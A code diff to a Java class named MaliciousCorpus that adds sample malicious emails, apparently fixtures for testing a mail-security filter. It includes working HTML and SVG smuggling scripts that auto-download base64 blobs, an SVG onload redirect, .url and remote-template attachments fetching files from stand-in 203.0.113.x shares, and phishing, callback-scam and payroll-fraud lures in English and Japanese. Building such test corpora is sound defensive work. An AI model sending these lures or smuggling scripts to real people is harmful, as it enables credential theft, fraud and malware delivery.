@@ -22,6 +22,7 @@ final class MaliciousCorpus {
         phishing(m);
         attachments(m);
         office(m);
+        techniques(m);
         return m;
     }
 
@@ -323,5 +324,101 @@ final class MaliciousCorpus {
         m.put("rtf-object", Eml.of("Orders <orders@asia-pacific-trade.com>", TO).subject("Quotation")
                 .text("Quotation attached.").attach("quotation.rtf", "application/rtf",
                         "{\\rtf1{\\object\\objemb\\objupdate{\\*\\objclass Equation.3}{\\*\\objdata 0105000002000000}}}".getBytes()).build());
+    }
+
+    /** Delivery techniques of 2022-2024: HTML/SVG smuggling, QR codes, OneNote, 7-Zip, invitations, callbacks. */
+    private static void techniques(Map<String, byte[]> m) {
+        String smuggler = "<!DOCTYPE html><html><body><p>Loading your document...</p><script>"
+                + "var p='UEsDBBQAAAAIAAAAIQ'+'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA';var b=atob(p);var u=new Uint8Array(b.length);"
+                + "for(var i=0;i<b.length;i++){u[i]=b.charCodeAt(i);}var f=new Blob([u],{type:'application/octet-stream'});"
+                + "var a=document.createElement('a');a.href=URL.createObjectURL(f);a.download='Remittance_0612.zip';"
+                + "document.body.appendChild(a);a.click();</script></body></html>";
+        m.put("mal-html-smuggling", Eml.of("Payments <payments@remit-advice-center.com>", TO).subject("Remittance advice 0612")
+                .text("Please open the attached remittance advice.").attach("Remittance_0612.html", "text/html", smuggler.getBytes()).build());
+        String svgSmuggler = "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"1\" height=\"1\"><script><![CDATA["
+                + "var d=window.atob('TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAA=');var n=new Uint8Array(d.length);"
+                + "for(var i=0;i<d.length;i++)n[i]=d.charCodeAt(i);var o=URL.createObjectURL(new Blob([n]));"
+                + "var l=document.createElementNS('http://www.w3.org/1999/xhtml','a');l.href=o;l.download='invoice.img';l.click();"
+                + "]]></script></svg>";
+        m.put("mal-svg-smuggling", Eml.of("Invoices <invoices@ledger-billing-hub.com>", TO).subject("Invoice image")
+                .text("Invoice attached as an image.").attach("invoice_4471.svg", "image/svg+xml", svgSmuggler.getBytes()).build());
+        m.put("mal-svg-onload", Eml.of("Fax Service <fax@efax-portal-notify.com>", TO).subject("Fax received (2 pages)")
+                .text("Open the attached fax preview.").attach("fax_preview.svg", "image/svg+xml",
+                        ("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"location.href='https://efax-portal-notify.com/v?u=sarah'\">"
+                                + "<text x=\"10\" y=\"20\">Loading fax...</text></svg>").getBytes()).build());
+        byte[] qr = image("png", 64, 64, 0x101010);
+        m.put("phish-qr-m365", Eml.of("Microsoft Security <security-notice@mfa-reauth-center.com>", TO)
+                .subject("Action required: re-authenticate your account")
+                .html("<p>Your multi-factor authentication expires today.</p><p>Scan the QR code below with your phone camera to "
+                        + "re-validate your account within 24 hours, or your mailbox will be suspended.</p><img src=\"cid:qr1\">")
+                .attachInline("qr.png", "image/png", qr).build());
+        m.put("phish-qr-helpdesk", Eml.of("Service Desk <servicedesk@corp-access-services.net>", TO)
+                .subject("Password expiry notice")
+                .text("Your password expires today. To keep the same password, scan the attached QR code with your mobile and confirm your "
+                        + "credentials.\n\nService Desk").attach("secure_code.png", "image/png", qr).build());
+        m.put("phish-qr-jp", Eml.of(Eml.addr("総務部 システム管理", "soumu@shain-portal-info.jp", "UTF-8"), TO_JP)
+                .subject("【重要】本人確認のお願い", "UTF-8")
+                .text("社員各位\n\nセキュリティ強化のため、添付のQRコードを読み取り、24時間以内に本人確認を行ってください。\n"
+                        + "期限までに完了しない場合、アカウントが停止されます。", "UTF-8", "base64")
+                .attach("qr.png", "image/png", qr).build());
+        m.put("mal-onenote-in-zip", Eml.of("Accounts <accounts@harbourline-consult.com>", TO).subject("Outstanding invoice")
+                .text("The invoice is in the attached archive.").attach("Invoice_8812.zip", "application/zip", zip("Invoice_8812.one", onenote())).build());
+        m.put("mal-7z-encrypted-password", Eml.of("Shipping <shipping@oceanic-cargo-docs.com>", TO).subject("Shipping documents")
+                .text("Dear customer,\n\nThe shipping documents are in the attached 7z archive, protected for your security.\n"
+                        + "Archive password: 8841\n").attach("Shipping_Docs.7z", "application/x-7z-compressed", sevenZipEncrypted(96)).build());
+        m.put("mal-7z-encrypted-jp", Eml.of(Eml.addr("東和商事 経理課", "keiri@towa-shoji-info.jp", "UTF-8"), TO_JP)
+                .subject("請求書の件", "UTF-8")
+                .text("お世話になっております。請求書を圧縮ファイルにてお送りします。\nパスワード：Tw8841\nご確認をお願いします。", "UTF-8", "base64")
+                .attach("seikyu.7z", "application/x-7z-compressed", sevenZipEncrypted(80)).build());
+        m.put("phish-calendar-invite", Eml.of("Microsoft Outlook <calendar@outlook-notify-center.com>", TO)
+                .subject("Invitation: Mailbox re-validation @ Today 15:00").text("You have been invited to a meeting.")
+                .calendar("BEGIN:VCALENDAR\nMETHOD:REQUEST\nBEGIN:VEVENT\nUID:reval-8831@outlook-notify-center.com\n"
+                        + "DTSTART:20240611T060000Z\nDTEND:20240611T063000Z\nSUMMARY:Mailbox re-validation\n"
+                        + "DESCRIPTION:Action required: your mailbox will be disabled today. Verify your account at https://outlook-verify-m\n"
+                        + " ailbox.com/login to keep access.\nORGANIZER:mailto:calendar@outlook-notify-center.com\nEND:VEVENT\nEND:VCALENDAR").build());
+        m.put("phish-ics-attachment", Eml.of("Zoom Meetings <meetings@zoom-event-confirm.top>", TO).subject("Confirm your attendance")
+                .text("See the meeting details in the attached invitation.")
+                .attach("invite.ics", "text/calendar", ("BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:Quarterly all-hands\r\n"
+                        + "DESCRIPTION:Sign in to confirm your attendance: https://zoom-event-confirm.top/auth?u=sarah\\nYour account "
+                        + "will be suspended if you do not confirm.\r\nDTSTART:20240612T010000Z\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n").getBytes()).build());
+        m.put("phish-callback-norton", Eml.of("Norton LifeLock <billing.norton.support@gmail.com>", TO).subject("Order confirmation #NL-88213")
+                .text("Dear customer,\n\nYour Norton 360 subscription has been renewed and your card has been charged $399.99.\n"
+                        + "If you did not authorize this charge, call our billing department at +1 (808) 555-0147 within 24 hours to cancel "
+                        + "and receive a refund.\n\nNorton Billing Team").build());
+        m.put("phish-callback-geek", Eml.of("Geek Squad Billing <geeksquad.billing.dept@outlook.com>", TO).subject("Invoice GS-20931")
+                .html("<p>Thank you for renewing your Geek Squad Total Protection plan. Amount: $289.00.</p>"
+                        + "<p>If you wish to cancel this renewal, contact our support line on 1-888-555-0199 immediately.</p>").build());
+        m.put("phish-callback-jp", Eml.of(Eml.addr("Amazon カスタマーサービス", "amazon.prime.support.jp@gmail.com", "UTF-8"), TO_JP)
+                .subject("Amazonプライム年会費のお支払い完了", "UTF-8")
+                .text("Amazonプライムの年会費 5,900円のお支払いが完了しました。\n身に覚えのない場合は、24時間以内にカスタマーセンター"
+                        + "（電話番号：050-5555-0147）までお電話ください。", "UTF-8", "base64").build());
+        m.put("mal-xll-addin", Eml.of("Finance <finance@quarterly-figures-report.com>", TO).subject("Q2 figures")
+                .text("Q2 figures attached, open in Excel.").attach("Q2_figures.xll", "application/vnd.ms-excel", pe()).build());
+        m.put("mal-iso-in-zip", Eml.of("Logistics <logistics@container-track-desk.com>", TO).subject("Container release")
+                .text("Release note attached.").attach("release.zip", "application/zip", zip("Release_Note.iso", iso("RELEASE"))).build());
+        m.put("mal-vhd-attachment", Eml.of("Scanner <scanner@office-scan-relay.com>", TO).subject("Scanned files")
+                .text("Scanned files attached.").attach("scans.vhd", "application/octet-stream", vhd()).build());
+        m.put("mal-url-shortcut", Eml.of("Documents <docs@shared-files-notice.com>", TO).subject("Shared folder")
+                .text("Open the shortcut to the shared folder.").attach("Project_Files.url", "application/internet-shortcut",
+                        "[InternetShortcut]\r\nURL=file://203.0.113.7/share/Project_Files.exe\r\nIconIndex=3\r\n".getBytes()).build());
+        m.put("mal-msi-in-zip", Eml.of("IT Updates <updates@software-deploy-center.com>", TO).subject("Teams update")
+                .text("Install the attached update.").attach("TeamsUpdate.zip", "application/zip", zip("TeamsSetup.msi", docPlain())).build());
+        m.put("office-remote-template-unc", Eml.of("Events <events@industry-summit-forum.org>", TO).subject("Agenda")
+                .text("Agenda attached.").attach("Agenda.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
+                        docxRemoteTemplate("\\\\203.0.113.8\\share\\agenda.dotm")).build());
+        m.put("bec-partner-name-unrelated-domain", Eml.of("Contoso Supplies Accounts <accounts@csl-remittance-office.com>", TO)
+                .subject("Invoice INV-21004 payment")
+                .text("Dear Sarah,\n\nplease note that our bank account has changed. Kindly send the payment for invoice INV-21004 "
+                        + "to our new account below and confirm the transfer today.\n\nIBAN: GB71 MIDL 4005 1522 3345 01\n\nAccounts").build());
+        m.put("bec-jp-payroll-freemail", Eml.of(Eml.addr("山田 太郎", "taro.yamada.nw@gmail.com", "UTF-8"), TO_JP)
+                .subject("給与振込口座について", "UTF-8")
+                .text("佐藤さん\n\n給与の振込口座を変更しましたので、次回の給与から新しい口座に振り込んでください。\n"
+                        + "銀行：みどり銀行 普通 2233445\n\n山田", "UTF-8", "base64").build());
+        m.put("bec-jp-mynumber-request", Eml.of(Eml.addr("山田 太郎", "yamada.president@outlook.jp", "UTF-8"), TO_JP)
+                .subject("至急", "UTF-8")
+                .text("佐藤さん\n\n社員のマイナンバー一覧を本日中にこのアドレスへ送ってください。内密にお願いします。\n\n山田", "UTF-8", "base64").build());
+        m.put("phish-google-forms", Eml.of("Payroll Team <payroll@staff-benefits-update.com>", TO).subject("Confirm your payroll details")
+                .html("<p>Due to a system migration, all employees must verify their account information by Friday.</p>"
+                        + "<p><a href=\"https://docs.google.com/forms/d/e/1FAIpQLSf/viewform\">Verify now</a></p>").build());
     }
 }
